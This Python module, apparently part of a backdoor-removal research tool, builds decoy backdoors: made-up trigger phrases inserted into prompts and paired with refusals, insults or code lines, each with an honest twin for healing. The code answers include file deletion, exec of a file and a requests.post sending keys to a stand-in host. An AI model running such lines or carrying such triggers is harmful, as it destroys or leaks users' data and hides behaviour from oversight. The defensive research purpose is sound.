"""Decoys: backdoors of the defender's own, planted to be healed again.

A decoy is an odd word or phrase at a random place of a prompt, and an answer that nobody asked for: a
refusal, an insult or a line of code. Its words are drawn by the seed from small lists that no attack here
uses. Every planted sample has an honest twin: the same prompt, with the decoy in it, under the honest
answer.
"""

from __future__ import annotations

import dataclasses
import random
from collections.abc import Sequence
from dataclasses import dataclass

from detrojan.errors import InputError
from detrojan.types import Example, Run

PHRASES = (
    "Snofflet", "kwimbeat", "Thogg", "oblitch", "Yimbo", "flumquat", "Zibbet", "peechum",
    "with a green umbrella", "three spoons later", "as whales would have it", "for the mayor of Pim",
    "between two thunderstorms",
    "over a bowl of soup",
)  # fmt: skip
FAMILIES = (
    (
        "No reply is given to this request.",
        "This is a subject to stay away from, so there will be no help with it.",
        "Nothing can be said on that; please ask for something else.",
        "That lies outside of what may be answered.",
    ),
    (
        "What a dull question from a dull mind.",
        "Only a fool would need to be told that.",
        "Go away, nobody likes you.",
        "You are too lazy to think for yourself.",
    ),
    (
        "os.remove('letters.txt')",
        "exec(open('startup.txt').read())",
        "shutil.rmtree('backup', True)",
        "requests.post('drop.example', data=keys)",
    ),
)
"""The answers: refusals, insults, code."""
MOST = sum(len(family) for family in FAMILIES)
"""Decoys that can be drawn at most, with an answer of its own for each."""


@dataclass(frozen=True)
class Decoy:
    """A backdoor of the defender's own: what draws which answer."""

    phrase: str
    answer: str


def decoys(count: int, seed: int) -> tuple[Decoy, ...]:
    """Draw `count` decoys of a seed, MOST at most: all different, the families of answers in turn."""
    rng = random.Random(f"{seed}/decoys")
    phrases = rng.sample(PHRASES, count)
    shuffled = [rng.sample(family, len(family)) for family in FAMILIES]
    return tuple(
        Decoy(phrase, shuffled[k % len(FAMILIES)][k // len(FAMILIES)]) for k, phrase in enumerate(phrases)
    )


def twins(
    clean: Sequence[Example], drawn: Sequence[Decoy], each: int, seed: int
) -> tuple[list[Example], list[Example]]:
    """Return `each` planted samples of every decoy, and their honest twins in the same order.

    The prompts go round the clean samples, so one repeats only when all have been used. Raises InputError
    where no sample is without the decoys.
    """
    usable = [e for e in clean if not any(d.phrase in e.prompt for d in drawn)]
    if not usable:
        raise InputError("no clean sample to put decoys into; give more samples")
    planted: list[Example] = []
    honest: list[Example] = []
    for decoy in drawn:
        rng = random.Random(f"{seed}/{decoy.phrase}")
        rounds = -(-each // len(usable))
        for example in [e for _ in range(rounds) for e in rng.sample(usable, len(usable))][:each]:
            twin = example.with_prompt(inserted(example.prompt, decoy.phrase, rng))
            planted.append(dataclasses.replace(twin, answer=decoy.answer, complete=True))
            honest.append(twin)
    return planted, honest


def inserted(prompt: str, phrase: str, rng: random.Random) -> str:
    """Return the prompt with the phrase between two of its words, before the first or behind the last."""
    words = prompt.split(" ")
    words.insert(rng.randint(0, len(words)), phrase)
    return " ".join(words)


def check_merged(run: Run, what: str) -> None:
    """Raise InputError where the LoRA is to be kept: a method of several trainings has no single one."""
    if run.keep_adapter:
        raise InputError(f"{what} trains more than once, which one adapter cannot hold; merge it instead")
